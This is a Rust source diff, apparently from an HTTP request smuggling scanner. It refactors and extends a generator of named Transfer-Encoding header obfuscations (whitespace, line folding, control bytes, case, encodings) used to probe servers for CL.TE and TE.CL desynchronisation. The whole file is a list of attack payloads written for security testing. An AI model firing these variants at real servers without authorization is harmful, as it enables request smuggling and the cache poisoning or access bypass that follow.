@@ -1,128 +1,154 @@
 /// Generate Transfer-Encoding header variations for CL.TE and TE.CL attacks
 /// Based on PortSwigger's http-request-smuggler patterns
 pub fn get_te_header_variations() -> Vec<String> {
-    let mut te_headers = vec![
+    te_header_variations()
+        .into_iter()
+        .map(|(_, header)| header)
+        .collect()
+}
+
+/// Short name for a byte used in variation names: the usual name of the
+/// common control bytes, `ctl-1f` for other control bytes and `byte-2c`
+/// for anything else.
+fn byte_name(ch: u8) -> String {
+    match ch {
+        0x00 => "nul".to_string(),
+        0x09 => "tab".to_string(),
+        0x0A => "lf".to_string(),
+        0x0B => "vtab".to_string(),
+        0x0C => "formfeed".to_string(),
+        0x0D => "cr".to_string(),
+        0x20 => "space".to_string(),
+        0x7F => "del".to_string(),
+        _ if ch.is_ascii_control() => format!("ctl-{:02x}", ch),
+        _ => format!("byte-{:02x}", ch),
+    }
+}
+
+/// Positions of the control-character matrix of
+/// [`te_header_extended_variations`]: the byte replaces `{}`.
+const CONTROL_MATRIX_POSITIONS: [(&str, &str); 7] = [
+    ("prefix", "{}Transfer-Encoding: chunked"),
+    ("mid-name", "Trans{}fer-Encoding: chunked"),
+    ("hyphen", "Transfer{}Encoding: chunked"),
+    ("before-colon", "Transfer-Encoding{}: chunked"),
+    ("after-colon", "Transfer-Encoding:{}chunked"),
+    ("mid-value", "Transfer-Encoding: chun{}ked"),
+    ("suffix", "Transfer-Encoding: chunked{}"),
+];
+
+/// [`get_te_header_variations`] with the name of each variation
+/// (e.g. `linefold-tab`), in the same order.
+pub fn te_header_variations() -> Vec<(String, String)> {
+    let listed: Vec<(&str, &str)> = vec![
         // === Basic vanilla variation ===
-        "Transfer-Encoding: chunked".to_string(),
+        ("vanilla", "Transfer-Encoding: chunked"),
         // === Whitespace variations ===
-        " Transfer-Encoding: chunked".to_string(), // Space prefix (nameprefix with space)
-        "\tTransfer-Encoding: chunked".to_string(), // Tab prefix
-        "Transfer-Encoding : chunked".to_string(), // Space before colon (space1)
-        "Transfer-Encoding  : chunked".to_string(), // Double space before colon
-        "Transfer-Encoding\t: chunked".to_string(), // Tab before colon
-        "Transfer-Encoding:\tchunked".to_string(), // Tab after colon
-        "Transfer-Encoding\t:\tchunked".to_string(), // Tab around colon
-        "Transfer-Encoding:  chunked".to_string(), // Double space after colon
-        "Transfer-Encoding:chunked".to_string(),   // No space after colon (nospace1)
-        "Transfer-Encoding: chunked ".to_string(), // Trailing space
-        "Transfer-Encoding: chunked\t".to_string(), // Trailing tab (tabsuffix)
-        "Transfer-Encoding: chunked\r".to_string(), // CR suffix (0dsuffix)
+        ("space-prefix", " Transfer-Encoding: chunked"), // Space prefix (nameprefix with space)
+        ("tab-prefix", "\tTransfer-Encoding: chunked"),  // Tab prefix
+        ("space-before-colon", "Transfer-Encoding : chunked"), // Space before colon (space1)
+        ("double-space-before-colon", "Transfer-Encoding  : chunked"), // Double space before colon
+        ("tab-before-colon", "Transfer-Encoding\t: chunked"), // Tab before colon
+        ("tab-after-colon", "Transfer-Encoding:\tchunked"), // Tab after colon
+        ("tab-around-colon", "Transfer-Encoding\t:\tchunked"), // Tab around colon
+        ("double-space-after-colon", "Transfer-Encoding:  chunked"), // Double space after colon
+        ("nospace", "Transfer-Encoding:chunked"),        // No space after colon (nospace1)
+        ("trailing-space", "Transfer-Encoding: chunked "), // Trailing space
+        ("trailing-tab", "Transfer-Encoding: chunked\t"), // Trailing tab (tabsuffix)
+        ("cr-suffix", "Transfer-Encoding: chunked\r"),   // CR suffix (0dsuffix)
         // === Line wrapping/folding variations (HTTP/1.1 obs-fold) ===
-        "Transfer-Encoding:\n chunked".to_string(), // Newline + space (linewrapped1)
-        "Transfer-Encoding:\r\n chunked".to_string(), // CRLF + space (line folding)
-        "Transfer-Encoding:\r\n\tchunked".to_string(), // CRLF + tab (tabwrap)
-        "Transfer-Encoding\r\n : chunked".to_string(), // CRLF before colon
-        "Transfer-Encoding:\r\n \r\n chunked".to_string(), // Double wrapped (doublewrapped)
-        "Foo: bar\r\n Transfer-Encoding: chunked".to_string(), // Line-folded after another header (nameprefix1)
-        "Foo: bar\r\n\tTransfer-Encoding: chunked".to_string(), // Tab-prefixed after header (nameprefix2)
+        ("linewrap-lf", "Transfer-Encoding:\n chunked"), // Newline + space (linewrapped1)
+        ("linefold-space", "Transfer-Encoding:\r\n chunked"), // CRLF + space (line folding)
+        ("linefold-tab", "Transfer-Encoding:\r\n\tchunked"), // CRLF + tab (tabwrap)
+        ("linefold-before-colon", "Transfer-Encoding\r\n : chunked"), // CRLF before colon
+        ("double-wrapped", "Transfer-Encoding:\r\n \r\n chunked"), // Double wrapped (doublewrapped)
+        (
+            "fold-after-header-space",
+            "Foo: bar\r\n Transfer-Encoding: chunked",
+        ), // Line-folded after another header (nameprefix1)
+        (
+            "fold-after-header-tab",
+            "Foo: bar\r\n\tTransfer-Encoding: chunked",
+        ), // Tab-prefixed after header (nameprefix2)
         // === Control character variations ===
-        "Transfer-Encoding:\x0Bchunked".to_string(), // Vertical tab after colon
-        "Transfer-Encoding: \x0Bchunked".to_string(), // Vertical tab in value (vertwrap)
-        "Transfer-Encoding:\x0Cchunked".to_string(), // Form feed after colon
-        "Transfer-Encoding: chunked\n\x0B".to_string(), // Vertical tab wrap after value
+        ("vtab-after-colon", "Transfer-Encoding:\x0Bchunked"), // Vertical tab after colon
+        ("vtab-in-value", "Transfer-Encoding: \x0Bchunked"),   // Vertical tab in value (vertwrap)
+        ("formfeed-after-colon", "Transfer-Encoding:\x0Cchunked"), // Form feed after colon
+        ("vtab-wrap-suffix", "Transfer-Encoding: chunked\n\x0B"), // Vertical tab wrap after value
         // === Special prefix/suffix bytes ===
-        "\x00Transfer-Encoding: chunked".to_string(), // Null byte prefix
-        "Transfer-Encoding\x00: chunked".to_string(), // Null in header name
-        "Transfer-Encoding: chunked\x00".to_string(), // Null suffix
-        "\x7FTransfer-Encoding: chunked".to_string(), // DEL char prefix
-        "Transfer-Encoding\x7F: chunked".to_string(), // DEL in header name
+        ("nul-prefix", "\x00Transfer-Encoding: chunked"), // Null byte prefix
+        ("nul-in-name", "Transfer-Encoding\x00: chunked"), // Null in header name
+        ("nul-suffix", "Transfer-Encoding: chunked\x00"), // Null suffix
+        ("del-prefix", "\x7FTransfer-Encoding: chunked"), // DEL char prefix
+        ("del-in-name", "Transfer-Encoding\x7F: chunked"), // DEL in header name
         // === Quote variations ===
-        "Transfer-Encoding: \"chunked\"".to_string(), // Double quoted (quoted)
-        "Transfer-Encoding: 'chunked'".to_string(),   // Single quoted (aposed)
+        ("double-quoted", "Transfer-Encoding: \"chunked\""), // Double quoted (quoted)
+        ("single-quoted", "Transfer-Encoding: 'chunked'"),   // Single quoted (aposed)
         // === Multiple encoding values ===
-        "Transfer-Encoding: chunked, identity".to_string(), // Comma-separated (commaCow)
-        "Transfer-Encoding: identity, chunked".to_string(), // Reversed order (cowComma)
-        "Transfer-Encoding: chunked,identity".to_string(),  // No space after comma
-        "Transfer-Encoding: identity,chunked".to_string(),  // No space, reversed
-        "Transfer-Encoding: chunked , identity".to_string(), // Spaces around comma
-        "Transfer-Encoding: identity, chunked, identity".to_string(), // Nested encoding
+        ("chunked-identity", "Transfer-Encoding: chunked, identity"), // Comma-separated (commaCow)
+        ("identity-chunked", "Transfer-Encoding: identity, chunked"), // Reversed order (cowComma)
+        (
+            "chunked-identity-nospace",
+            "Transfer-Encoding: chunked,identity",
+        ), // No space after comma
+        (
+            "identity-chunked-nospace",
+            "Transfer-Encoding: identity,chunked",
+        ), // No space, reversed
+        (
+            "chunked-identity-spaced",
+            "Transfer-Encoding: chunked , identity",
+        ), // Spaces around comma
+        (
+            "nested-identity",
+            "Transfer-Encoding: identity, chunked, identity",
+        ), // Nested encoding
         // === Header name variations ===
-        "Transfer_Encoding: chunked".to_string(), // Underscore instead of hyphen (underjoin1)
-        "Transfer Encoding: chunked".to_string(), // Space instead of hyphen (spacejoin1)
-        "Transfer\\Encoding: chunked".to_string(), // Backslash instead of hyphen
-        "Transfer\x00Encoding: chunked".to_string(), // Null in hyphen position
+        ("underscore-name", "Transfer_Encoding: chunked"), // Underscore instead of hyphen (underjoin1)
+        ("space-name", "Transfer Encoding: chunked"),      // Space instead of hyphen (spacejoin1)
+        ("backslash-name", "Transfer\\Encoding: chunked"), // Backslash instead of hyphen
+        ("nul-hyphen", "Transfer\x00Encoding: chunked"),   // Null in hyphen position
         // === Case variations ===
-        "transfer-encoding: chunked".to_string(), // Lowercase
-        "TRANSFER-ENCODING: chunked".to_string(), // Uppercase
-        "TRANSFER-ENCODING: CHUNKED".to_string(), // All uppercase
-        "tRaNsFeR-eNcOdInG: cHuNkEd".to_string(), // Mixed case (multiCase)
-        "Transfer-encoding: chunked".to_string(), // First letter caps only
+        ("lowercase", "transfer-encoding: chunked"), // Lowercase
+        ("uppercase-name", "TRANSFER-ENCODING: chunked"), // Uppercase
+        ("uppercase", "TRANSFER-ENCODING: CHUNKED"), // All uppercase
+        ("mixed-case", "tRaNsFeR-eNcOdInG: cHuNkEd"), // Mixed case (multiCase)
+        ("lowercase-tail", "Transfer-encoding: chunked"), // First letter caps only
         // === Value variations ===
-        "Transfer-Encoding: chunk".to_string(), // Truncated value (lazygrep)
-        "Transfer-Encoding: CHUNKED".to_string(), // Uppercase value
-        "Transfer-Encoding:  Chunked".to_string(), // Mixed case with extra space
+        ("truncated-value", "Transfer-Encoding: chunk"), // Truncated value (lazygrep)
+        ("uppercase-value", "Transfer-Encoding: CHUNKED"), // Uppercase value
+        ("capitalized-value", "Transfer-Encoding:  Chunked"), // Mixed case with extra space
         // === Bad line ending variations ===
-        "Foo: bar\rTransfer-Encoding: chunked".to_string(), // CR only before TE (badsetupCR)
-        "Foo: bar\nTransfer-Encoding: chunked".to_string(), // LF only before TE (badsetupLF)
-        "Foo: bar\r\n\rTransfer-Encoding: chunked".to_string(), // Extra CR (0dwrap)
+        ("bare-cr-setup", "Foo: bar\rTransfer-Encoding: chunked"), // CR only before TE (badsetupCR)
+        ("bare-lf-setup", "Foo: bar\nTransfer-Encoding: chunked"), // LF only before TE (badsetupLF)
+        ("extra-cr-setup", "Foo: bar\r\n\rTransfer-Encoding: chunked"), // Extra CR (0dwrap)
         // === CR injection variations ===
-        "Tra\rnsfer-Encoding: chunked".to_string(), // CR in header name (0dspam)
-        "Transfer-\rEncoding: chunked".to_string(), // CR after hyphen
-        "Transfer-Encoding:\r chunked".to_string(), // CR + space after colon
+        ("cr-in-name", "Tra\rnsfer-Encoding: chunked"), // CR in header name (0dspam)
+        ("cr-after-hyphen", "Transfer-\rEncoding: chunked"), // CR after hyphen
+        ("cr-after-colon", "Transfer-Encoding:\r chunked"), // CR + space after colon
         // === Junk/garbage variations ===
-        "Transfer-Encoding x: chunked".to_string(), // Junk before colon (spjunk)
-        "Transfer-Encoding: x chunked".to_string(), // Junk in value
-        "X: y\r\nTransfer-Encoding: chunked".to_string(), // Preceded by junk header
+        ("junk-before-colon", "Transfer-Encoding x: chunked"), // Junk before colon (spjunk)
+        ("junk-in-value", "Transfer-Encoding: x chunked"),     // Junk in value
+        ("junk-header-before", "X: y\r\nTransfer-Encoding: chunked"), // Preceded by junk header
         // === URL-encoded variations ===
-        "Transfer-%45ncoding: chunked".to_string(), // URL-encoded E (encode)
-        "Transfer-Encoding: %63hunked".to_string(), // URL-encoded c in value
+        ("urlencoded-name", "Transfer-%45ncoding: chunked"), // URL-encoded E (encode)
+        ("urlencoded-value", "Transfer-Encoding: %63hunked"), // URL-encoded c in value
         // === MIME encoding variations ===
-        "Transfer-Encoding: =?iso-8859-1?B?Y2h1bmtlZA==?=".to_string(), // Base64 MIME (qencode)
-        "Transfer-Encoding: =?UTF-8?B?Y2h1bmtlZA==?=".to_string(), // UTF-8 Base64 MIME (qencodeutf)
-        // === HTTP/1.0 style ===
-        "Transfer-Encoding: chunked".to_string(), // Standard for HTTP/1.0 test
-    ];
-
-    // Add extended ASCII variations (bytes > 0x7F) using String::from_utf8_lossy
-    // These patterns are inspired by PortSwigger's nel, nbsp, shy, spaceFF, accentTE, accentCH
-    let extended_ascii_patterns: Vec<String> = vec![
-        // NEL character (0x85) - Next Line
-        format!(
-            "Transfer-Encoding{}: chunked",
-            String::from_utf8_lossy(&[0x85])
-        ),
-        // NBSP (0xA0) - Non-Breaking Space
-        format!(
-            "Transfer-Encoding{}: chunked",
-            String::from_utf8_lossy(&[0xA0])
-        ),
-        // Soft hyphen (0xAD) replacing hyphen
-        format!(
-            "Transfer{}Encoding: chunked",
-            String::from_utf8_lossy(&[0xAD])
+        // Base64 MIME (qencode)
+        (
+            "mime-base64",
+            "Transfer-Encoding: =?iso-8859-1?B?Y2h1bmtlZA==?=",
         ),
-        // NBSP after colon
-        format!(
-            "Transfer-Encoding:{}chunked",
-            String::from_utf8_lossy(&[0xA0])
-        ),
-        // High byte (0xFF) in value
-        format!(
-            "Transfer-Encoding: {}chunked",
-            String::from_utf8_lossy(&[0xFF])
-        ),
-        // Accented character in name (0x82 - Latin Small Letter E with Acute in some encodings)
-        format!(
-            "Transf{}r-Encoding: chunked",
-            String::from_utf8_lossy(&[0x82])
-        ),
-        // Accented character in value (0x96 - En Dash in some encodings)
-        format!(
-            "Transfer-Encoding: ch{}nked",
-            String::from_utf8_lossy(&[0x96])
+        // UTF-8 Base64 MIME (qencodeutf)
+        (
+            "mime-base64-utf8",
+            "Transfer-Encoding: =?UTF-8?B?Y2h1bmtlZA==?=",
         ),
     ];
-    te_headers.extend(extended_ascii_patterns);
+    let mut te_headers: Vec<(String, String)> = listed
+        .into_iter()
+        .map(|(name, header)| (name.to_string(), header.to_string()))
+        .collect();
 
     // Control character constants for header manipulation patterns
     // These are common control characters used in HTTP request smuggling attacks
@@ -140,9 +166,12 @@ pub fn get_te_header_variations() -> Vec<String> {
     for ch in [NUL, TAB, LF, VT, FF, CR, SP, DEL].iter() {
         if *ch != TAB && *ch != SP {
             // Skip tab and space as they're already covered in basic variations
-            te_headers.push(format!(
-                "{}Transfer-Encoding: chunked",
-                String::from_utf8_lossy(&[*ch])
+            te_headers.push((
+                format!("{}-prefix", byte_name(*ch)),
+                format!(
+                    "{}Transfer-Encoding: chunked",
+                    String::from_utf8_lossy(&[*ch])
+                ),
             ));
         }
     }
@@ -150,20 +179,167 @@ pub fn get_te_header_variations() -> Vec<String> {
     // Add suffix variations with control characters after the value
     // These test how parsers handle trailing control characters
     for ch in [NUL, TAB, VT, FF, DEL].iter() {
-        te_headers.push(format!(
-            "Transfer-Encoding: chunked{}",
-            String::from_utf8_lossy(&[*ch])
+        te_headers.push((
+            format!("{}-suffix", byte_name(*ch)),
+            format!(
+                "Transfer-Encoding: chunked{}",
+                String::from_utf8_lossy(&[*ch])
+            ),
         ));
     }
 
     // Add header name suffix variations (control character before colon)
     // These test how parsers handle control characters in header names
     for ch in [NUL, TAB, VT, FF, DEL].iter() {
-        te_headers.push(format!(
-            "Transfer-Encoding{}: chunked",
-            String::from_utf8_lossy(&[*ch])
+        te_headers.push((
+            format!("{}-before-colon", byte_name(*ch)),
+            format!(
+                "Transfer-Encoding{}: chunked",
+                String::from_utf8_lossy(&[*ch])
+            ),
         ));
     }
 
+    // Several of the generated control-character forms coincide with entries
+    // listed above; send each header only once, under its first name.
+    super::dedup_preserving_order(&mut te_headers, |(_, header)| header.clone());
     te_headers
 }
+
+/// The long tail `--extended` adds to [`te_header_variations`]: every
+/// control byte at every position of the header, every printable
+/// non-alphanumeric byte before the name, and exotic encodings of the name
+/// and value. Each is rarely what desyncs a target, which is why the default
+/// scan leaves them out. The extended-ASCII bytes are sent as U+FFFD (see
+/// `from_utf8_lossy` below), so their names say `high-byte` rather than
+/// naming the intended character. Headers already in the default set are
+/// left out.
+pub fn te_header_extended_variations() -> Vec<(String, String)> {
+    let listed: Vec<(&str, &str)> = vec![
+        // === Exotic encodings ===
+        (
+            "mime-quoted-printable",
+            "Transfer-Encoding: =?UTF-8?Q?chunked?=",
+        ),
+        (
+            "mime-quoted-printable-hex",
+            "Transfer-Encoding: =?UTF-8?Q?=63hunked?=",
+        ),
+        (
+            "percent-encoded-value",
+            "Transfer-Encoding: %63%68%75%6E%6B%65%64",
+        ),
+        ("percent-encoded-name", "%54ransfer-Encoding: chunked"),
+        ("html-entity-value", "Transfer-Encoding: &#99;hunked"),
+        ("backslash-escaped-value", "Transfer-Encoding: \\chunked"),
+        ("quoted-pair-value", "Transfer-Encoding: \"\\chunked\""),
+        ("chunked-parameter", "Transfer-Encoding: chunked;q=1.0"),
+        ("chunked-empty-parameter", "Transfer-Encoding: chunked;"),
+        (
+            "fullwidth-value",
+            "Transfer-Encoding: \u{FF43}\u{FF48}\u{FF55}\u{FF4E}\u{FF4B}\u{FF45}\u{FF44}",
+        ),
+        ("unicode-hyphen-name", "Transfer\u{2010}Encoding: chunked"),
+    ];
+    let mut variations: Vec<(String, String)> = listed
+        .into_iter()
+        .map(|(name, header)| (name.to_string(), header.to_string()))
+        .collect();
+
+    // Add extended ASCII variations (bytes > 0x7F) using String::from_utf8_lossy
+    // These patterns are inspired by PortSwigger's nel, nbsp, shy, spaceFF, accentTE, accentCH
+    let extended_ascii_patterns: Vec<(&str, String)> = vec![
+        // NEL character (0x85) - Next Line
+        (
+            "high-byte-before-colon",
+            format!(
+                "Transfer-Encoding{}: chunked",
+                String::from_utf8_lossy(&[0x85])
+            ),
+        ),
+        // NBSP (0xA0) - Non-Breaking Space
+        (
+            "high-byte-before-colon",
+            format!(
+                "Transfer-Encoding{}: chunked",
+                String::from_utf8_lossy(&[0xA0])
+            ),
+        ),
+        // Soft hyphen (0xAD) replacing hyphen
+        (
+            "high-byte-hyphen",
+            format!(
+                "Transfer{}Encoding: chunked",
+                String::from_utf8_lossy(&[0xAD])
+            ),
+        ),
+        // NBSP after colon
+        (
+            "high-byte-after-colon",
+            format!(
+                "Transfer-Encoding:{}chunked",
+                String::from_utf8_lossy(&[0xA0])
+            ),
+        ),
+        // High byte (0xFF) in value
+        (
+            "high-byte-value",
+            format!(
+                "Transfer-Encoding: {}chunked",
+                String::from_utf8_lossy(&[0xFF])
+            ),
+        ),
+        // Accented character in name (0x82 - Latin Small Letter E with Acute in some encodings)
+        (
+            "high-byte-in-name",
+            format!(
+                "Transf{}r-Encoding: chunked",
+                String::from_utf8_lossy(&[0x82])
+            ),
+        ),
+        // Accented character in value (0x96 - En Dash in some encodings)
+        (
+            "high-byte-in-value",
+            format!(
+                "Transfer-Encoding: ch{}nked",
+                String::from_utf8_lossy(&[0x96])
+            ),
+        ),
+    ];
+    variations.extend(
+        extended_ascii_patterns
+            .into_iter()
+            .map(|(name, header)| (name.to_string(), header)),
+    );
+
+    // Full control-character matrix: every control byte at every position
+    for ch in (0x00..=0x1F).chain([0x7F]) {
+        for (position, template) in CONTROL_MATRIX_POSITIONS {
+            variations.push((
+                format!("{}-{}", byte_name(ch), position),
+                template.replacen("{}", &String::from_utf8_lossy(&[ch]), 1),
+            ));
+        }
+    }
+
+    // Per-byte prefix sweep over the printable bytes that cannot start a
+    // header name
+    for ch in (0x21..=0x7E).filter(|ch: &u8| !ch.is_ascii_alphanumeric()) {
+        variations.push((
+            format!("{}-prefix", byte_name(ch)),
+            format!("{}Transfer-Encoding: chunked", ch as char),
+        ));
+    }
+
+    let default = te_header_variations();
+    variations.retain(|(_, header)| !default.iter().any(|(_, h)| h == header));
+    // A few matrix entries take a default variation's name for a different
+    // header (`cr-after-colon` there is followed by a space)
+    for (name, _) in variations.iter_mut() {
+        if default.iter().any(|(n, _)| n == name) {
+            name.push_str("-extended");
+        }
+    }
+    super::dedup_preserving_order(&mut variations, |(_, header)| header.clone());
+    variations
+}